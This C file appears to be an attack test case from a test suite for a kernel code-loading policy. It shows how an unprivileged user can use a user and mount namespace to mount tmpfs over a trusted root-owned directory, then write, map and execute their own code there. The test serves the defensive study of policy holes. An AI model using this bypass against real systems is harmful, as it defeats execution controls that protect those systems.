// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * The policy takes code from a directory that root alone writes to. A user makes a user and a
 * mount namespace, mounts a file system of his own over the directory, and puts his code
 * there: its path is what the policy names. R7.2: mounts of such namespaces are under nothing.
 * The hole is load_unasked.
 */
#include <fcntl.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>

#include "borrowed.h"

#define NOBODY		65534
#define DIRECTORY	"/tmp/roots"

static u8 *map_own(void)
{
	u8 *evil = borrowed_evil(PROT_READ), *src;
	int fd;

	REQUIRE(!setgid(NOBODY) && !setuid(NOBODY));
	REQUIRE(!unshare(CLONE_NEWUSER | CLONE_NEWNS));
	REQUIRE(!mount("none", DIRECTORY, "tmpfs", 0, NULL));
	fd = open(DIRECTORY "/code", O_RDWR | O_CREAT | O_CLOEXEC, 0755);
	REQUIRE(fd >= 0 && write(fd, evil, PAGE) == (ssize_t)PAGE);
	src = mmap(NULL, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	REQUIRE(src != MAP_FAILED);
	close(fd);
	return src;
}

void attack(void)
{
	struct scene s;
	u8 *src;

	mkdir(DIRECTORY, 0755);
	scene_image(&s, 1);
	attack_policy("allow load intent has x, source is file-exec, file under " DIRECTORY "\n"
		      "deny load intent has x\ndefault allow\n");
	src = map_own();

	ATTEMPT(&s, borrowed_add(&s, src));
	borrowed_run(&s, "ran code of a user's from root's directory");
}
